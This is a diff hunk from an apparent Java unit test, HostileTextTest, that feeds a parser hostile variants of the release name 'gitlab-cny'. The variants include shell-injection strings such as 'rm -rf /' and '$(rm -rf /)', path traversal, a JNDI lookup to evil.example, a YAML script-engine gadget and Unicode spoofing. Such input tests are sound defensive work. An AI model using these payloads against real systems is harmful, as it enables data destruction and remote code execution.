@@ -150,7 +150,7 @@ class HostileTextTest {
         return Stream.of("gitlab-cny; rm -rf /", "$(rm -rf /)", "`reboot`gitlab", "gitlab-cny && id", "gitlab-cny|id", "../../gitlab-cny",
                 "gitlab-cny/../gitlab-cny", "%2e%2e/gitlab-cny", "${jndi:ldap://evil.example/x}", "{{ .Release.Name }}",
                 "!!javax.script.ScriptEngineManager [x]", "*gitlab-cny", "&gitlab-cny", "? gitlab-cny", "- gitlab-cny", "gitlab-cny: {}",
-                "gitlab-cny\ncancel gitlab-cny", "cancel\ngitlab-cny\ngitlab-cny", "GITLAB-CNY", "Cancel gitlab-cny", "gitlab\u2013cny",
+                "gitlab-cny\ncancel gitlab-cny", "cancel\ngitlab-cny\ngitlab-cny", "G\u0130TLAB-CNY", "gitlab\u2013cny",
                 "gitlab_cny", "\uFF47itlab-cny", "gitlab-cny\u0301", "\uD83D\uDE00", "gitlab-cny \uD83D\uDE00", "\uD83D",
                 "\u201Cgitlab-cny\u201D \u201Cgitlab-cny\u201D", "gitlab\u00A0-\u00A0cny", "<!channel>", "<@U0CAROL> gitlab-cny",
                 "<https://evil.example|gitlab-cny>", "```gitlab-cny``` now", ":white_check_mark:", "\u202Eync-baltig", "> gitlab-cny",
